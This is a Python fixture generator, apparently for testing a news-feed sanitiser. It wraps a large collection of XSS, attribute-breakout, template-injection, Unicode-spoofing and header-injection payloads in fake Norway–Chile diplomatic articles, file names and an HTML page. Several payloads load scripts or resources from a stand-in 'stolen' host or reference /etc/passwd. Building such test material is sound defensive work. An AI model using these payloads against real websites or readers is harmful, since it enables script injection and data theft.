"""Articles of someone who wants a reader's browser to do what it should not."""
import json

CALL = "window.hacked=1"
ELSEWHERE = "http://192.0.2.1/stolen"

MARKUP = [
    f"<script>{CALL}</script>", f"<ScRiPt >{CALL}</sCrIpT>", f"<script src={ELSEWHERE}.js></script>",
    f"<script src='/static/live.js' onload='{CALL}'></script>", f"</title><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>", f"</style><script>{CALL}</script>",
    f"--><script>{CALL}</script><!--", f"]]><script>{CALL}</script>",
    f"<img src=x onerror={CALL}>", f"<img src='{ELSEWHERE}.png'>",
    f"<img srcset='{ELSEWHERE}.png 2x' onload={CALL}>", f"<image href='{ELSEWHERE}.png'>",
    f"<svg onload={CALL}>", f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s></svg>",
    f"<svg><use href='data:image/svg+xml,<svg onload={CALL}>#x'/></svg>",
    f"<svg><foreignObject><body onload={CALL}></foreignObject></svg>",
    f"<math><mtext><script>{CALL}</script></mtext></math>",
    f"<math href='javascript:{CALL}'>Talks</math>",
    f"<body onload={CALL}>", f"<body background='{ELSEWHERE}'>",
    f"<iframe src='javascript:{CALL}'></iframe>", f"<iframe srcdoc='<script>parent.hacked=1</script>'>",
    f"<iframe src='{ELSEWHERE}'></iframe>", f"<frameset onload={CALL}>", f"<object data='{ELSEWHERE}'>",
    f"<object data='javascript:{CALL}'>", f"<embed src='{ELSEWHERE}'>", f"<applet code='{ELSEWHERE}'>",
    f"<link rel=stylesheet href='{ELSEWHERE}.css'>", f"<link rel=import href='{ELSEWHERE}'>",
    f"<link rel=prefetch href='{ELSEWHERE}'>", f"<link rel=preconnect href='{ELSEWHERE}'>",
    f"<style>@import '{ELSEWHERE}.css'</style>", f"<style>*{{background:url({ELSEWHERE})}}</style>",
    f"<p style='background:url({ELSEWHERE})'>", f"<div style='position:fixed;inset:0'>all of it</div>",
    f"<base href='{ELSEWHERE}/'>", f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<meta http-equiv=refresh content=\"0;url=javascript:{CALL}\">",
    f"<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    f"<form action='{ELSEWHERE}'><input autofocus onfocus={CALL}>", f"<input onfocus={CALL} autofocus>",
    f"<button formaction='{ELSEWHERE}'>Show</button>", f"<select autofocus onfocus={CALL}></select>",
    f"<textarea autofocus onfocus={CALL}></textarea>", f"<details open ontoggle={CALL}></details>",
    f"<marquee onstart={CALL}></marquee>", f"<video src='{ELSEWHERE}' onerror={CALL} autoplay></video>",
    f"<audio src=x onerror={CALL}>", f"<video><source onerror={CALL}></video>",
    f"<track src='{ELSEWHERE}'>", f"<a href='javascript:{CALL}' autofocus>read on</a>",
    f"<a href='data:text/html,<script>opener.hacked=1</script>'>read on</a>",
    f"<a ping='{ELSEWHERE}' href='/'>read on</a>", f"<area href='javascript:{CALL}'>",
    f"<isindex action='javascript:{CALL}'>", f"<keygen onfocus={CALL} autofocus>",
    f"<portal src='{ELSEWHERE}'></portal>", f"<template><script>{CALL}</script></template>",
    f"<noscript><p title='</noscript><script>{CALL}</script>'>", f"<xmp><script>{CALL}</script>",
    f"<plaintext><script>{CALL}</script>", f"<listing><img src=x onerror={CALL}></listing>",
    f"<dialog open onclose={CALL}>leave?</dialog>", f"<slot onslotchange={CALL}></slot>",
    f"<x-y tabindex=0 onfocus={CALL} autofocus>", f"<div popover onbeforetoggle={CALL}>",
]
ATTRIBUTES = [
    f"\" onmouseover=\"{CALL}", f"' onmouseover='{CALL}", f"\" autofocus onfocus=\"{CALL}\" x=\"",
    f"\"><script>{CALL}</script>", f"'><script>{CALL}</script>", f"`><script>{CALL}</script>",
    f"\"\u0301 onmouseover=\"{CALL}", f"x\" style=\"background:url({ELSEWHERE})",
    f"&quot; onmouseover=&quot;{CALL}", f"&#34;&#62;&#60;script&#62;{CALL}&#60;/script&#62;",
    f"&lt;script&gt;{CALL}&lt;/script&gt;", f"\\\"; {CALL}; //", f"\\x3cscript\\x3e{CALL}\\x3c/script\\x3e",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e", f"%3Cscript%3E{CALL}%3C/script%3E",
    f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-", f"';{CALL};'", f"</script><script>{CALL}</script>",
]
TEMPLATES = [
    "{{token}}", "{{{page}}}", "{{#rooms}}{{.href}}{{/rooms}}", "{{>head}}", "{{=<% %>=}}<%page%>",
    "{{% CONTENT_TYPE:TEXT}}{{title}}", "${hacked=1}", "<%= hacked %>", "#{hacked}", "{% raw %}",
]
LETTERS = [
    "\u202eslived eht\u202c", "\u2066\u2067isolate", "zero\u200bwidth\u200djoined\ufeff",
    "a" + "\u0301" * 400, "\U0001f1fa\U0001f1f3" * 40, "مصر وقطر والأردن", "התקיימו שיחות",
    "nul\u0000ctrl\u0001\u0008\u001b[31m", "line\u2028paragraph\u2029separators", "\ufffe\uffff\ufdd0",
    "W" * 3000, "‮<script>‬", "ⅼ<ſcript>" + CALL + "</ſcript>", "＜script＞" + CALL + "＜/script＞",
    "tag\U000e0001\U000e0041s", "\r\n\r\nHTTP/1.1 200 OK\r\nX-Hacked: 1", "a\tb\vc\fd",
]
ADDRESSES = [
    f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f" javascript:{CALL}", f"java\tscript:{CALL}",
    f"java\nscript:{CALL}", f"\u0001javascript:{CALL}", f"data:text/html,<script>{CALL}</script>",
    f"vbscript:{CALL}", f"//192.0.2.1/stolen", f"\\\\192.0.2.1\\stolen", f"blob:{ELSEWHERE}",
    f"https://post.example/\"onmouseover=\"{CALL}", f"https://post.example/'><script>{CALL}</script>",
    "file:///etc/passwd", "http://post.example@192.0.2.1/", f"https://post.example/#javascript:{CALL}",
]


def kinds():
    return MARKUP + ATTRIBUTES + TEMPLATES + LETTERS


def articles():
    """One of each kind, with the same in its every field; facts around it, so that it is told of."""
    for number, kind in enumerate(kinds()):
        day = 1 + number % 28
        yield {
            "id": f"h{number}", "title": f"Envoys of Norway and Chile met {kind} in Bergen",
            "outlet": f"Post {number} {kind}", "byline": kind,
            "url": ADDRESSES[number % len(ADDRESSES)] + (f"?{number}" if number >= 16 else ""),
            "published": f"2022-03-{day:02d}", "language": "en",
            "text": (
                f"Foreign Minister Ingrid {kind} Solheim of Norway met Chile’s President Tomás Rey in"
                f" Bergen on 3 March 2022. {kind} “We will withdraw our fleet by May 2022,” Solheim"
                f" said. “{kind},” Rey said on Friday. Chile and Norway signed an agreement on"
                f" fishing grounds in Oslo, the ministry said {kind}."),
        }


def write(folder):
    """Files of them: as JSON Lines, and as text and pages whose bytes are broken."""
    with open(folder / "feed.jsonl", "w", encoding="utf-8") as file:
        for article in articles():
            file.write(json.dumps(article) + "\n")
    for number, kind in enumerate(kinds()):
        if number % 6:
            continue
        words = f"Envoys met {kind} in Oslo\n\nOSLO, March 4, 2022 — Ingrid Solheim met Tomás Rey. "
        broken = b"\xff\xfe\xc0\xaf\xed\xa0\x80\xf5\x80" if number % 12 else b"\xc3("
        name = folder / f"{number:03d} <b onclick=hacked=1>&quot;.txt"
        name.write_bytes(words.encode("utf-8", "replace") + broken + kind.encode("utf-8", "replace"))
    (folder / "page.html").write_text(
        "<html><head><title>Talks &lt;script&gt;window.hacked=1&lt;/script&gt;</title></head><body>"
        "<article><h1>Talks &lt;img src=x onerror=hacked=1&gt;</h1>"
        + "".join(f"<p>Ingrid Solheim met Tomás Rey in Bergen. {kind}</p>" for kind in MARKUP)
        + "</article></body></html>", encoding="utf-8")
